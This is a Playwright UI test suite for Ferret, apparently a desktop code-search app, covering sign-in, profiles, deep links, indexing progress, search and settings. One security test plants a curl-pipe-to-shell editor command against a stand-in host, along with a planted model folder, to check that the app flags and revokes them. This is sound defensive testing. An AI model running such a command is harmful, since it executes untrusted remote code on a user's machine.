import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { calls, emit, open, shot, start, stop } from "./harness";

beforeAll(start);
afterAll(stop);

const progress = (repo: string, over: Record<string, unknown>) => ({
  phase: "chunking", repo, repo_index: 0, repos_total: 2, files_done: 0, files_total: 640, chunks_written: 0, embeddings_done: 0, embeddings_total: 0, elapsed_secs: 0, model: null, ...over,
});

describe("sign-in", () => {
  it("shows the command's error verbatim, clears the token, then signs in", async () => {
    const { page, context, errors } = await open("fresh", "light");
    await page.getByText("Welcome to Ferret").waitFor();
    expect(await page.locator('a[href="https://github.com/settings/personal-access-tokens/new"]').count()).toBe(1);
    expect(await page.textContent(".perms")).toMatch(/Contents: Read-only.*Metadata: Read-only/);
    await shot(page, "signin");

    const token = page.locator("#token");
    expect(await token.getAttribute("type")).toBe("password");
    await token.fill("ghp_not_a_good_one");
    await token.press("Enter");
    await page.getByText("token rejected by GitHub (401): create a fine-grained read-only token with Contents: read and Metadata: read").waitFor();
    expect(await token.inputValue()).toBe("");
    await shot(page, "signin-error");

    await page.getByText("Advanced").click();
    await page.getByPlaceholder("https://github.example.com/api/v3").fill("https://ghe.example.com/api/v3");
    await token.fill("github_pat_11SECRETSECRET");
    await page.getByRole("button", { name: "Sign in with token" }).click();
    await page.locator(".profile-name", { hasText: "octocat" }).waitFor();
    expect(await calls(page, "profile_login")).toEqual([
      { apiUrl: null, token: "<redacted>" },
      { apiUrl: "https://ghe.example.com/api/v3", token: "<redacted>" },
    ]);
    // A new account lands on Repositories with its GitHub list; the token is nowhere in the page.
    await page.locator(".gh-row").first().waitFor();
    expect(await page.content()).not.toContain("SECRETSECRET");
    expect(errors).toEqual([]);
    await context.close();
  });

  it("creates a local profile", async () => {
    const { page, context } = await open("fresh", "light");
    await page.locator("#local-name").fill("Side Projects");
    await page.getByText("Profile id:").waitFor();
    await page.getByRole("button", { name: "Continue with a local profile" }).click();
    await page.locator(".profile-name", { hasText: "side-projects" }).waitFor();
    expect(await calls(page, "profile_create_local")).toEqual([{ id: "side-projects" }]);
    await page.getByText("No repositories yet").waitFor();
    await context.close();
  });
});

describe("first run", () => {
  it("greets the user, says ready once its listeners are in place, and can skip to the built-in profile", async () => {
    const { page, context, errors } = await open("fresh", "dark");
    await page.getByText("Welcome to Ferret").waitFor();
    await expect.poll(() => calls(page, "ui_ready")).toEqual([{}]);
    await page.getByRole("button", { name: /Skip for now: use the local profile default/ }).click();
    await page.locator(".profile-name", { hasText: "default" }).waitFor();
    expect(await calls(page, "profile_use")).toEqual([{ id: "default" }]);
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe("deep links", () => {
  it("asks before a link switches profiles; Stay drops the link, Switch follows it", async () => {
    const { page, context, errors } = await open("signed-in", "dark");
    await page.locator("#search-input").waitFor();
    await expect.poll(() => calls(page, "ui_ready")).toEqual([{}]);
    const link = "ferret://search?q=retry&profile=work";
    const ask = { url: link, action: "search for “retry”", opens_in: null, profile: "work", profile_name: "work", current: "gh-5123", current_name: "alice-m" };
    await emit(page, "deep-link-confirm", ask);
    const dialog = page.getByRole("dialog", { name: "Switch profile?" });
    await dialog.waitFor();
    expect(await dialog.textContent()).toContain("A link asks to search for “retry” in the profile work");
    await shot(page, "deep-link-confirm");
    await page.getByRole("button", { name: "Stay on alice-m" }).click();
    await dialog.waitFor({ state: "detached" });
    expect(await calls(page, "deep_link_follow")).toEqual([]);

    await emit(page, "deep-link-confirm", ask);
    await page.getByRole("button", { name: "Switch to work" }).click();
    await expect.poll(() => calls(page, "deep_link_follow")).toEqual([{ url: link, alwaysAllow: false }]);
    await page.locator(".profile-name", { hasText: "work" }).waitFor();
    expect(errors).toEqual([]);
    await context.close();
  });

  it("asks before a link opens a file in the editor, with always-allow per repository", async () => {
    const { page, context, errors } = await open("signed-in", "light");
    await page.locator("#search-input").waitFor();
    await expect.poll(() => calls(page, "ui_ready")).toEqual([{}]);
    const link = "ferret://open?repo=alice-m%2Fferret&path=src%2Fmain.rs&line=12";
    const ask = { url: link, action: "open alice-m/ferret/src/main.rs:12", opens_in: "alice-m/ferret", profile: "gh-5123", profile_name: "alice-m", current: "gh-5123", current_name: "alice-m" };
    await emit(page, "deep-link-confirm", ask);
    const dialog = page.getByRole("dialog", { name: "Open in your editor?" });
    await dialog.waitFor();
    expect(await dialog.textContent()).toContain("A link asks to open alice-m/ferret/src/main.rs:12.");
    expect(await dialog.textContent()).toContain("Always allow links to open files of alice-m/ferret");
    await shot(page, "deep-link-open-confirm");
    await page.getByRole("button", { name: "Cancel" }).click();
    await dialog.waitFor({ state: "detached" });
    expect(await calls(page, "deep_link_follow")).toEqual([]);

    await emit(page, "deep-link-confirm", ask);
    await page.locator("#link-always").evaluate((e: HTMLInputElement) => e.click());
    await page.getByRole("button", { name: "Open", exact: true }).click();
    await expect.poll(() => calls(page, "deep_link_follow")).toEqual([{ url: link, alwaysAllow: true }]);
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe("profiles", () => {
  it("switches profile and deletes only after typing the id", async () => {
    const { page, context, errors } = await open("signed-in", "dark");
    await page.locator(".profile-btn").click();
    await page.getByRole("menuitemradio").nth(1).waitFor();
    await shot(page, "profile-menu");
    await page.getByRole("menuitemradio", { name: /work/ }).click();
    await page.locator(".profile-name", { hasText: "work" }).waitFor();
    expect(await calls(page, "profile_use")).toEqual([{ id: "work" }]);

    await page.locator(".profile-btn").click();
    await page.getByRole("menuitem", { name: /Delete profile/ }).click();
    const del = page.getByRole("button", { name: "Delete work" });
    expect(await del.isDisabled()).toBe(true);
    await page.getByLabel("Profile id to confirm").fill("wor");
    expect(await del.isDisabled()).toBe(true);
    await page.getByLabel("Profile id to confirm").fill("work");
    expect(await del.isDisabled()).toBe(false);
    await shot(page, "delete-profile");
    await del.click();
    await page.getByText(/Deleted profile work and freed/).waitFor();
    expect(await calls(page, "profile_delete")).toEqual([{ id: "work" }]);
    await page.locator(".profile-name", { hasText: "alice-m" }).waitFor();
    expect(errors).toEqual([]);
    await context.close();
  });

  it("exports the profile and imports one from the profile menu", async () => {
    const { page, context, errors } = await open("signed-in", "light");
    await page.locator(".profile-btn").click();
    await page.getByRole("menuitem", { name: /Export profile/ }).click();
    await page.getByText("Exported gh-5123 to /home/alice/gh-5123.ferret.tar.gz").waitFor();
    expect(await page.getByText(/the file holds no token/).count()).toBe(1);
    expect(await calls(page, "profile_export")).toEqual([{ id: "gh-5123" }]);

    await page.locator(".profile-btn").click();
    await page.getByRole("menuitem", { name: /Import profile/ }).click();
    await page.getByText("Imported work-restored: searchable now").waitFor();
    expect(await page.getByText(/restore the folders of notes/).count()).toBe(1);
    await shot(page, "profile-imported");
    await page.locator(".profile-name", { hasText: "work-restored" }).waitFor();
    expect(await calls(page, "profile_import")).toEqual([{}]);
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe("repositories and progress", () => {
  it("adds GitHub repositories and follows progress events to 100%", async () => {
    const { page, context, errors } = await open("signed-in", "dark");
    await page.getByRole("tab", { name: "Repositories" }).click();
    await page.locator(".repo-row").first().waitFor();
    await page.locator(".gh-row").first().waitFor();
    expect(await page.locator('.gh-row[data-repo="BurntSushi/ripgrep"] .added-mark').count()).toBe(1);
    expect(await page.locator('.repo-row[data-repo="BurntSushi/ripgrep"] .sem-pill').textContent()).toBe("64% semantic");

    await page.locator("#gh-filter").fill("acme");
    expect(await page.locator(".gh-row").count()).toBe(2);
    await page.locator('.gh-row[data-repo="acme-corp/web-console"] input').check();
    await page.locator("#gh-filter").fill("");
    await page.locator('.gh-row[data-repo="alice-m/billing-service"] input').check();
    await page.getByText("2 selected · ~33,520 chunks").waitFor();
    await shot(page, "repos");
    await page.locator("#gh-add").click();
    await page.getByText("Added 2 repositories").waitFor();
    expect(await calls(page, "repo_add_github")).toEqual([
      { fullName: "alice-m/billing-service", branch: null },
      { fullName: "acme-corp/web-console", branch: null },
    ]);

    const A = "alice-m/billing-service";
    const B = "acme-corp/web-console";
    await emit(page, "jobs-changed", { running: true, paused: false, summary: "Cloning and indexing 2 repositories" });
    await emit(page, "git-progress", { repo: B, progress: { stage: "receiving", received_objects: 5200, total_objects: 13000, indexed_deltas: 0, total_deltas: 0, received_bytes: 21_500_000 } });
    await emit(page, "index-progress", { repo: A, progress: progress(A, { phase: "chunking", files_done: 0, elapsed_secs: 0 }), overall: { repos_done: 0, repos_total: 2, percent: 2 }, rate: 0, eta_secs: null });
    await emit(page, "index-progress", { repo: A, progress: progress(A, { phase: "chunking", files_done: 400, chunks_written: 5900, elapsed_secs: 2 }), overall: { repos_done: 0, repos_total: 2, percent: 14 }, rate: 0, eta_secs: null });
    await emit(page, "index-progress", { repo: A, progress: progress(A, { phase: "embedding", files_done: 640, chunks_written: 9420, embeddings_done: 1000, embeddings_total: 9420, elapsed_secs: 4 }), overall: { repos_done: 0, repos_total: 2, percent: 20 }, rate: 0, eta_secs: null });
    await emit(page, "index-progress", { repo: A, progress: progress(A, { phase: "embedding", files_done: 640, chunks_written: 9420, embeddings_done: 4120, embeddings_total: 9420, elapsed_secs: 44 }), overall: { repos_done: 0, repos_total: 2, percent: 37 }, rate: 78, eta_secs: 68 });

    const rowA = page.locator(`.progress-row[data-repo="${A}"]`);
    await rowA.getByText("43% semantic").waitFor();
    expect(await rowA.getByText("78 chunks/s").count()).toBe(1); // the engine's rate
    expect(await rowA.getByTestId("eta").textContent()).toBe("ETA 1m 08s"); // and its ETA
    expect(await page.getByTestId("overall-pct").textContent()).toBe("37%");
    expect(await page.locator(`.progress-row[data-repo="${B}"]`).textContent()).toContain("Receiving objects");
    expect(await page.locator(".activity").textContent()).toContain("37%");
    await shot(page, "progress");

    await page.getByRole("button", { name: "Pause", exact: true }).click();
    expect((await calls(page, "index_pause")).length).toBe(1);
    await emit(page, "jobs-changed", { running: false, paused: true, summary: "Paused" });
    await page.getByRole("button", { name: "Resume", exact: true }).click();
    expect((await calls(page, "index_resume")).length).toBe(1);
    await emit(page, "jobs-changed", { running: true, paused: false, summary: "Indexing 2 repositories" });

    await emit(page, "index-progress", { repo: A, progress: progress(A, { phase: "done", files_done: 640, chunks_written: 9420, embeddings_done: 9420, embeddings_total: 9420, elapsed_secs: 112 }), overall: { repos_done: 1, repos_total: 2, percent: 50 }, rate: 0, eta_secs: null });
    await emit(page, "git-progress", { repo: B, progress: { stage: "done", received_objects: 13000, total_objects: 13000, indexed_deltas: 9000, total_deltas: 9000, received_bytes: 54_000_000 } });
    await emit(page, "index-progress", { repo: B, progress: { phase: "done", repo: B, files_done: 1820, files_total: 1820, chunks_written: 24100, embeddings_done: 24100, embeddings_total: 24100, elapsed_secs: 300, model: null, repo_index: 1, repos_total: 2 }, overall: { repos_done: 2, repos_total: 2, percent: 100 }, rate: 0, eta_secs: null });
    await page.getByTestId("overall-pct").getByText("100%").waitFor();
    const bars = await page.locator(".indexing [role=progressbar]").evaluateAll((els) => els.map((e) => e.getAttribute("aria-valuenow")));
    expect(bars.every((v) => v === "100")).toBe(true);
    expect(await rowA.getByTestId("semantic").textContent()).toBe("100% semantic");
    await shot(page, "progress-done");

    await emit(page, "jobs-changed", { running: false, paused: false, summary: "" });
    await page.locator(".indexing").waitFor({ state: "detached" });
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe("one repository paused", () => {
  it("pauses and resumes a repository; a paused one cannot be synced or re-indexed", async () => {
    const { page, context, errors } = await open("signed-in", "light");
    await page.getByRole("tab", { name: "Repositories" }).click();
    const row = page.locator('.repo-row[data-repo="BurntSushi/ripgrep"]');
    await row.waitFor();
    await row.getByRole("button", { name: "Pause BurntSushi/ripgrep" }).click();
    await row.getByText("Paused", { exact: true }).waitFor();
    expect(await calls(page, "repo_set_paused")).toEqual([{ name: "BurntSushi/ripgrep", paused: true }]);
    expect(await row.getByRole("button", { name: "Sync BurntSushi/ripgrep" }).isDisabled()).toBe(true);
    expect(await row.getByRole("button", { name: "Re-index BurntSushi/ripgrep" }).isDisabled()).toBe(true);
    await shot(page, "repo-paused");
    await row.getByRole("button", { name: "Resume BurntSushi/ripgrep" }).click();
    await row.getByRole("button", { name: "Pause BurntSushi/ripgrep" }).waitFor();
    expect((await calls(page, "repo_set_paused")).at(-1)).toEqual({ name: "BurntSushi/ripgrep", paused: false });
    expect(await row.getByRole("button", { name: "Re-index BurntSushi/ripgrep" }).isDisabled()).toBe(false);
    expect(errors).toEqual([]);
    await context.close();
  });
});

describe("search", () => {
  it("searches as you type with chips, autocomplete, keyboard and preview", async () => {
    const { page, context, errors } = await open("signed-in", "dark");
    const box = page.locator("#search-input");
    await box.waitFor();
    await shot(page, "search-empty");

    // `/` focuses the search box from anywhere.
    await page.locator(".brand").click();
    await page.keyboard.press("/");
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("search-input");

    await page.keyboard.type("repo:fer");
    await page.locator("#autocomplete").getByRole("option", { name: "alice-m/ferret" }).waitFor();
    await shot(page, "search-autocomplete");
    await page.keyboard.press("Tab");
    await page.locator('[data-chip="repo:alice-m/ferret"]').waitFor();
    expect(await box.inputValue()).toBe("");

    await page.keyboard.type("lang:");
    expect(await page.locator("#autocomplete").textContent()).toContain("rust");
    await page.keyboard.type("rust retry fuse search");
    await page.locator('[data-chip="lang:rust"]').waitFor();
    expect(await box.inputValue()).toBe("retry fuse search");
    await page.locator(".hit").nth(2).waitFor();
    const last = (await calls(page, "search")).at(-1);
    expect(last).toEqual({ query: "repo:alice-m/ferret lang:rust retry fuse search", mode: "hybrid", limit: 50 });
    // Debounced: far fewer requests than keystrokes.
    expect((await calls(page, "search")).length).toBeLessThan(8);

    // Results grouped by file (search.rs has two hits), with marks and ranking badges.
    expect(await page.locator(".file-group").count()).toBe(2);
    expect(await page.locator(".file-group").first().locator(".hit").count()).toBe(2);
    expect(await page.locator(".hit mark").count()).toBeGreaterThan(2);
    expect(await page.locator(".hit.selected").getAttribute("data-hit")).toBe("0");
    await page.locator(".preview tr.on").first().waitFor();

    await page.keyboard.press("ArrowDown");
    await page.keyboard.press("ArrowDown");
    expect(await page.locator(".hit.selected").getAttribute("data-hit")).toBe("2");
    await page.keyboard.press("ArrowUp");
    expect(await page.locator(".hit.selected").getAttribute("data-hit")).toBe("1");
    await page.locator(".preview .file-path", { hasText: "search.rs:24" }).waitFor();
    await shot(page, "search");

    await page.keyboard.press("Enter");
    await expect.poll(() => calls(page, "open_in_editor")).toEqual([{ repo: "alice-m/ferret", path: "crates/engine/src/search.rs", line: 24 }]);
    await page.keyboard.press("Control+c");
    await expect.poll(() => calls(page, "copy_link")).toEqual([{ repo: "alice-m/ferret", path: "crates/engine/src/search.rs", line: 24 }]);
    await page.getByText("Link copied").waitFor();

    // Mode switch re-runs the query; removing a chip widens it.
    await page.getByRole("radio", { name: "Lexical" }).click();
    await expect.poll(async () => (await calls(page, "search")).at(-1)?.mode).toBe("lexical");
    await page.getByRole("button", { name: "Remove repo:alice-m/ferret" }).click();
    await expect.poll(async () => (await calls(page, "search")).at(-1)?.query).toBe("lang:rust retry fuse search");
    // Backspace at the start of the box removes the last chip.
    await box.focus();
    await box.press("Home");
    await box.press("Backspace");
    await expect.poll(async () => (await calls(page, "search")).at(-1)?.query).toBe("retry fuse search");
    await page.locator(".file-group").nth(2).waitFor(); // notes/scripts/retry.py joins in
    expect(await page.locator(".no-strong-match").count()).toBe(0);
    expect(errors).toEqual([]);
    await context.close();
  });

  it("says no strong match above the closest results when nothing answers", async () => {
    const { page, context, errors } = await open("signed-in", "dark");
    const box = page.locator("#search-input");
    await box.fill("kubernetes operator reconcile retry");
    const note = page.locator(".no-strong-match");
    await note.waitFor();
    expect(await note.textContent()).toContain("No strong match.");
    expect(await note.textContent()).toContain("kubernetes operator reconcile retry");
    // The closest results are still shown, below the note.
    const hits = page.locator(".hit");
    expect(await hits.count()).toBeGreaterThan(0);
    const noteBox = (await note.boundingBox())!;
    const firstHit = (await hits.first().boundingBox())!;
    expect(noteBox.y + noteBox.height).toBeLessThanOrEqual(firstHit.y);
    await shot(page, "search-no-strong-match");
    // A query the results answer clears it.
    await box.fill("retry failed http requests");
    await page.locator(".file-head .file-path", { hasText: "scripts/retry.py" }).waitFor();
    await expect.poll(() => note.count()).toBe(0);
    // Nothing at all is "no results", not a weak match.
    await box.fill("zzqx");
    await page.getByText("No results for").waitFor();
    expect(await note.count()).toBe(0);
    expect(errors).toEqual([]);
    await context.close();
  });

  it("drops stale responses and renders snippets as text", async () => {
    const { page, context } = await open("signed-in", "light");
    const box = page.locator("#search-input");
    await box.fill("slowquery retry");
    await page.waitForTimeout(250); // the slow request is in flight
    await box.fill("http requests");
    await page.locator(".file-head .file-path", { hasText: "scripts/retry.py" }).waitFor();
    await page.waitForTimeout(800); // the slow response arrives and must be ignored
    expect(await page.locator(".file-group").count()).toBe(1);
    // The snippet's "<b>not</b>" is shown as text, not markup.
    expect(await page.locator(".hit b").count()).toBe(0);
    expect(await page.locator(".hit").textContent()).toContain("<b>not</b> HTML");
    await shot(page, "search-light");
    await context.close();
  });
});

describe("settings", () => {
  it("edits and saves settings, and shows limits with the 80% warning", async () => {
    const { page, context, errors } = await open("signed-in", "light");
    await page.locator("#search-input").waitFor();
    await page.keyboard.press("Control+3");
    await page.locator("#editor").waitFor();
    await page.locator('.limit[data-limit="chunks"].warn').waitFor();
    expect(await page.locator('.limit[data-limit="chunks"]').textContent()).toContain("89%");
    expect(await page.locator('.limit[data-limit="repos"].ok').count()).toBe(1);
    // About: the version, the model and where the files and data live.
    await page.locator("#about-version").waitFor();
    const about = await page.locator("#about").textContent();
    expect(about).toContain("Ferret 0.1.0");
    expect(about).toContain("1.31.1");
    expect(about).toContain("/usr/lib/Ferret/models (bundled)");

    await page.locator("#editor").selectOption("custom");
    await page.locator("#editor-command").fill("nvim +{line} {path}");
    await page.locator("#excludes").fill("vendor/\n*.min.js\n\nfixtures/ ");
    await page.locator("#threads").fill("2");
    await page.locator("#start-at-login").evaluate((e: HTMLInputElement) => e.click());
    await page.getByText("Unsaved changes").waitFor();
    await shot(page, "settings");
    await page.getByRole("button", { name: "Save" }).click();
    await page.getByText("All changes saved").waitFor();
    expect(await calls(page, "settings_set")).toEqual([
      { settings: { editor: "custom", editor_command: "nvim +{line} {path}", excludes: ["vendor/", "*.min.js", "fixtures/"], index_threads: 2, fetch_interval_mins: 30, start_at_login: false } },
    ]);
    expect(errors).toEqual([]);
    await context.close();
  });

  it("lists the security settings an imported profile could bring, and revokes each one", async () => {
    const { page, context, errors } = await open("signed-in", "light");
    await page.locator("#search-input").waitFor();
    // As a backup from someone else could set them.
    await page.evaluate(() => {
      const state = (window as any).__ferret.state;
      state.settings = { ...state.settings, editor: "custom", editor_command: "sh -c 'curl -s https://x.example | sh' {path}" };
      state.security = {
        model_dir: "/home/alice/Downloads/ort-planted",
        index_secret_files: true,
        link_grants: [{ repo_id: 1, repo: "alice-m/ferret" }, { repo_id: 3, repo: "notes" }],
      };
    });
    await page.keyboard.press("Control+3");
    const security = page.locator("#security");
    await security.waitFor();
    const row = (setting: string) => security.locator(`.security-row[data-setting="${setting}"]`);
    expect(await row("editor-command").textContent()).toContain("sh -c 'curl -s https://x.example | sh' {path}");
    expect(await row("model-dir").textContent()).toContain("/home/alice/Downloads/ort-planted");
    expect(await row("secret-files").textContent()).toContain("Indexed: searchable, and readable by coding agents");
    expect(await security.locator(".grant").evaluateAll((els) => els.map((e) => e.getAttribute("data-repo")))).toEqual(["alice-m/ferret", "notes"]);
    expect(await security.locator(".security-row.changed").count()).toBe(4);
    // The Security section at the top of the scrolling pane, the top bar kept in view.
    await page.locator("#security-heading").evaluate((e) => {
      e.closest("section")!.scrollIntoView({ block: "start" });
      document.scrollingElement!.scrollTop = 0;
    });
    await shot(page, "settings-security");

    await page.getByRole("button", { name: "Revoke link access to alice-m/ferret" }).click();
    await security.locator('.grant[data-repo="alice-m/ferret"]').waitFor({ state: "detached" });
    expect(await security.locator(".grant").count()).toBe(1);
    await page.locator("#security-editor-reset").click();
    await row("editor-command").getByText("None: results open in VS Code").waitFor();
    await page.locator("#security-model-reset").click();
    await row("model-dir").getByText("Default: $FERRET_MODEL_DIR or the installed files").waitFor();
    await page.locator("#security-secrets-reset").click();
    await page.getByText("A re-index is queued to drop those already indexed.").waitFor();
    expect(await row("secret-files").textContent()).toContain("Skipped");
    await page.getByRole("button", { name: "Revoke link access to notes" }).click();
    await row("link-grants").getByText("None: links ask before opening any file").waitFor();
    expect(await security.locator(".security-row.changed").count()).toBe(0);
    expect(await security.getByRole("button").count()).toBe(0);
    expect(await calls(page, "security_reset")).toEqual([
      { reset: { setting: "link_grant", repo_id: 1 } },
      { reset: { setting: "editor_command" } },
      { reset: { setting: "model_dir" } },
      { reset: { setting: "index_secret_files" } },
      { reset: { setting: "link_grant", repo_id: 3 } },
    ]);
    // The editor form follows: the reset command is not waiting to be saved back.
    expect(await page.locator("#editor").inputValue()).toBe("vscode");
    expect(await page.locator("#editor-command").count()).toBe(0);
    await page.getByText("All changes saved").waitFor();
    await shot(page, "settings-security-revoked");
    expect(errors).toEqual([]);
    await context.close();
  });

  it("shows how to connect a coding agent to this profile, with copy buttons", async () => {
    const { page, context, errors } = await open("signed-in", "light");
    await page.locator("#search-input").waitFor();
    await page.keyboard.press("Control+3");
    await page.locator("#agent-setup").waitFor();
    expect(await page.locator("#agent-command").textContent()).toBe("/usr/bin/ferret mcp --profile gh-5123");
    expect(await page.locator("#agent-config").textContent()).toContain("claude mcp add ferret -- /usr/bin/ferret mcp --profile gh-5123");
    await page.locator("#agent-client").selectOption("vscode");
    const vscode = JSON.parse((await page.locator("#agent-config").textContent()) ?? "{}");
    expect(vscode.servers.ferret).toEqual({ type: "stdio", command: "/usr/bin/ferret", args: ["mcp", "--profile", "gh-5123"] });
    await page.locator("#agent-setup").scrollIntoViewIfNeeded();
    await shot(page, "settings-agent");
    await page.locator("#agent-config-copy").click();
    await page.getByText("Copied the VS Code configuration").waitFor();
    expect((await calls(page, "clipboard_write")).map((c) => c.text)).toEqual([(await page.locator("#agent-config").textContent()) ?? ""]);
    expect(errors).toEqual([]);
    await context.close();
  });

  it("shows the search model with its speed, and switches with progress while the old model serves", async () => {
    const { page, context, errors } = await open("signed-in", "light");
    await page.locator("#search-input").waitFor();
    await page.keyboard.press("Control+3");
    const active = page.locator('.model.active[data-model="all-minilm-l6-v2-int8"]');
    await active.waitFor();
    expect(await active.textContent()).toContain("in use");
    expect(await active.locator(".model-speed").textContent()).toBe("41 chunks/s on this machine");
    const windowed = page.locator('.model[data-model="all-minilm-l6-v2-int8-w4"]');
    expect(await windowed.textContent()).toContain("up to 4 windows of 128 tokens");
    expect(await windowed.locator(".model-speed").textContent()).toContain("not measured yet");

    await windowed.getByRole("button", { name: "Use this model" }).click();
    await page.locator("#model-switch").waitFor();
    expect(await page.locator("#model-switch").textContent()).toContain("answers searches until the new vectors are complete");
    await page.getByText("Re-embedding for all-minilm-l6-v2-int8-w4").first().waitFor();
    await shot(page, "settings-model-switch");
    // The poll moves it on and the swap lands: the windowed model is in use.
    await page.locator('.model.active[data-model="all-minilm-l6-v2-int8-w4"]').waitFor({ timeout: 15_000 });
    expect(await page.locator("#model-switch").count()).toBe(0);
    expect(await calls(page, "model_use")).toEqual([{ id: "all-minilm-l6-v2-int8-w4" }]);
    expect(errors).toEqual([]);
    await context.close();
  });
});
